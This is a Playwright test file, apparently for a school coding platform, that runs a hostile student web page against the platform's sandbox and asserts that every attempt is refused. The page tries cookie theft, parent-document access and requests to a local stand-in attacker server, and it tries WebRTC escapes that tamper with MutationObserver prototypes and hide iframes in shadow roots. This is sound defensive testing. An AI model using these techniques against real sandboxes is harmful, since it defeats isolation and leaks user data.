/** What a student's web page tries against the school, its readers and their browsers, and does not get. */
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { consoleLines, openWebProject } from '#e2e/fixtures/projects.ts';
import { test as base, expect } from '#e2e/fixtures/school.ts';

/** A server of the attacker's, which notes what reaches it. */
const test = base.extend<{ attacker: { url: string; requests: string[] } }>({
  // biome-ignore lint/correctness/noEmptyPattern: Playwright reads a fixture's dependencies from this pattern.
  attacker: async ({}, use) => {
    const requests: string[] = [];
    const server = createServer(({ url }, response) => {
      requests.push(url ?? '');
      response.setHeader('access-control-allow-origin', '*').end('taken');
    });
    await new Promise<void>((resolve) => server.listen(0, resolve));
    await use({ url: `http://localhost:${(server.address() as AddressInfo).port}`, requests });
    server.close();
  },
});

// The browser reports what it refuses.
test.use({ mayLog: /.*/ });
test.beforeEach(async ({ create, page }) => {
  await create.signedIn();
  await page.goto('/projects');
});

/** Each attack prints its name and what it got. */
const attacks = (attacker: string) => `
const report = (name, result) => console.log(name + ': ' + result);
const attempt = async (name, attack) => {
  try { report(name, await attack()); } catch (error) { report(name, 'refused'); }
};
const soon = (promise) => Promise.race([promise, new Promise((resolve) => setTimeout(resolve, 1500, 'refused'))]);
const loads = (tag, attributes) => soon(new Promise((resolve) => {
  const element = Object.assign(document.createElement(tag), attributes);
  element.onload = () => resolve('taken');
  element.onerror = () => resolve('refused');
  document.body.append(element);
}));
(async () => {
  await attempt('cookies', () => document.cookie || 'refused');
  await attempt('set a cookie', () => { document.cookie = 'a=1'; return document.cookie || 'refused'; });
  await attempt('indexedDB', () => soon(new Promise((resolve, reject) => {
    const request = indexedDB.open('x'); request.onsuccess = () => resolve('taken'); request.onerror = reject;
  })));
  await attempt('caches', () => caches.open('x').then(() => 'taken'));
  await attempt('parent document', () => parent.document.title);
  await attempt('parent storage', () => parent.localStorage.length);
  await attempt('top navigation', () => { top.location.href = '${attacker}/top'; return 'refused'; });
  await attempt('opener', () => (window.opener ? 'taken' : 'refused'));
  await attempt('popup', () => (window.open('${attacker}/popup') ? 'taken' : 'refused'));
  await attempt('service worker', () => navigator.serviceWorker.register('/service-worker.js').then(() => 'taken'));
  await attempt('own fetch', () => soon(fetch('${attacker}/fetch').then(() => 'taken')));
  await attempt('XMLHttpRequest', () => soon(new Promise((resolve, reject) => {
    const request = new XMLHttpRequest(); request.onload = () => resolve('taken'); request.onerror = reject;
    request.open('GET', '${attacker}/xhr'); request.send();
  })));
  await attempt('WebSocket', () => soon(new Promise((resolve, reject) => {
    const socket = new WebSocket('${attacker}/socket'.replace('http', 'ws')); socket.onopen = () => resolve('taken'); socket.onerror = reject;
  })));
  await attempt('EventSource', () => soon(new Promise((resolve, reject) => {
    const source = new EventSource('${attacker}/events'); source.onopen = () => resolve('taken'); source.onerror = reject;
  })));
  await attempt('beacon', () => { navigator.sendBeacon('${attacker}/beacon'); return 'refused'; });
  await attempt('picture', () => loads('img', { src: '${attacker}/img' }));
  await attempt('script', () => loads('script', { src: '${attacker}/script' }));
  await attempt('stylesheet', () => loads('link', { rel: 'stylesheet', href: '${attacker}/css' }));
  await attempt('prefetch', () => loads('link', { rel: 'prefetch', href: '${attacker}/prefetch' }));
  await attempt('frame', () => { loads('iframe', { src: '${attacker}/frame' }); return 'refused'; });
  await attempt('worker', () => soon(new Promise((resolve, reject) => {
    const worker = new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))); worker.onmessage = () => resolve('taken'); worker.onerror = reject;
  })));
  await attempt('WebRTC', () => { new RTCPeerConnection(); return 'taken'; });
  await attempt('WebRTC of a new frame', () => soon(new Promise((resolve) => {
    addEventListener('message', ({ data }) => data === 'webrtc' && resolve('taken'));
    const frame = document.createElement('iframe');
    frame.srcdoc = '<script>new RTCPeerConnection(); parent.postMessage("webrtc", "*")</' + 'script>';
    document.body.append(frame);
  })));
  await attempt('WebRTC of an empty frame', () => {
    const frame = document.body.appendChild(document.createElement('iframe'));
    new frame.contentWindow.RTCPeerConnection(); return 'taken';
  });
  await attempt('WebRTC of a script frame', () => soon(new Promise((resolve) => {
    addEventListener('message', ({ data }) => data === 'script' && resolve('taken'));
    const frame = document.createElement('iframe');
    frame.src = 'javascript:new RTCPeerConnection(); parent.postMessage("script", "*")';
    document.body.append(frame);
  })));
  await attempt('WebRTC of a frame in a shadow tree', () => soon(new Promise((resolve) => {
    addEventListener('message', ({ data }) => data === 2 && resolve('taken'));
    Element.prototype.remove = () => {};
    MutationObserver.prototype.observe = () => {};
    const root = document.body.appendChild(document.createElement('div')).attachShadow({ mode: 'closed' });
    root.innerHTML = '<iframe srcdoc="<script>new RTCPeerConnection(); parent.postMessage(2, String.fromCharCode(42))</' + 'script>"></iframe>';
  })));
  await attempt('WebRTC of a written shadow tree', () => soon(new Promise((resolve) => {
    addEventListener('message', ({ data }) => data === 3 && resolve('taken'));
    setTimeout(() => {
      const host = document.body.appendChild(document.createElement('div'));
      (host.setHTMLUnsafe ?? (() => {})).call(host, '<div><template shadowrootmode="open"><iframe srcdoc="<script>new RTCPeerConnection(); parent.postMessage(3, String.fromCharCode(42))</' + 'script>"></iframe></template></div>');
    });
  })));
  await attempt('WebRTC of a frame that hides its node', () => soon(new Promise((resolve) => {
    addEventListener('message', ({ data }) => data === 4 && resolve('taken'));
    Object.defineProperty(MutationRecord.prototype, 'addedNodes', { get: () => [] });
    Object.defineProperty(Node.prototype, 'nodeType', { get: () => 3 });
    Object.defineProperty(NodeList.prototype, 'length', { get: () => 0 });
    const frame = document.createElement('iframe');
    frame.srcdoc = '<script>new RTCPeerConnection(); parent.postMessage(4, "*")</' + 'script>';
    document.body.append(frame);
  })));
  await attempt('download', () => {
    Object.assign(document.createElement('a'), { href: URL.createObjectURL(new Blob(['x'])), download: 'x.exe' }).click(); return 'refused';
  });
  await attempt('form', () => {
    const form = Object.assign(document.createElement('form'), { action: '${attacker}/form', method: 'post' });
    document.body.append(form); form.submit(); return 'refused';
  });
  await attempt('camera', () => navigator.mediaDevices.getUserMedia({ video: true }).then(() => 'taken'));
  await attempt('place', () => soon(new Promise((resolve, reject) => navigator.geolocation.getCurrentPosition(() => resolve('taken'), reject))));
  await attempt('full screen', () => document.documentElement.requestFullscreen().then(() => 'taken'));
  await attempt('own navigation', () => { location.href = '${attacker}/self'; return 'refused'; });
  await attempt('done', () => 'refused');
})();
`;

/** Writes a shadow tree with a frame while the page is parsed: in one piece, in two, and by the prototype's function. */
const written = `
addEventListener('message', ({ data }) => data === 5 && console.log('WebRTC of written frames: taken'));
const frame = '<iframe srcdoc="<script>new RTCPeerConnection(); parent.postMessage(5, String.fromCharCode(42))</' + 'script>"></iframe>';
document.write('<div><template shadowrootmode="open">' + frame + '</template></div>');
document.write('<div><template shadow', 'rootmode="open">' + frame + '</template></div>');
document.write('<div><template shadow');
document.write('rootmode="open">' + frame + '</template></div>');
Document.prototype.write.call(document, '<div><template shadowrootmode="open">' + frame + '</template></div>');
`;

test('a page gets nothing of the school, and sends nothing to anyone', async ({ page, attacker }) => {
  const events: string[] = [];
  page.context().on('page', () => events.push('popup'));
  page.on('download', () => events.push('download'));
  await openWebProject(page, {
    'index.html': '<!doctype html><body><script src="written.js"></script><script src="script.js"></script></body>',
    'written.js': written,
    'script.js': attacks(attacker.url),
  });

  await expect(consoleLines(page).filter({ hasText: 'done: refused' })).toBeVisible();
  const lines = await consoleLines(page).allInnerTexts();
  expect(lines.filter((line) => /^[\w ]+: /.test(line) && !/: refused$/.test(line))).toEqual([]);
  expect(lines.length).toBeGreaterThan(28);
  expect(attacker.requests).toEqual([]);
  expect(events).toEqual([]);
  await expect(page).toHaveURL(/\/projects\//);
});
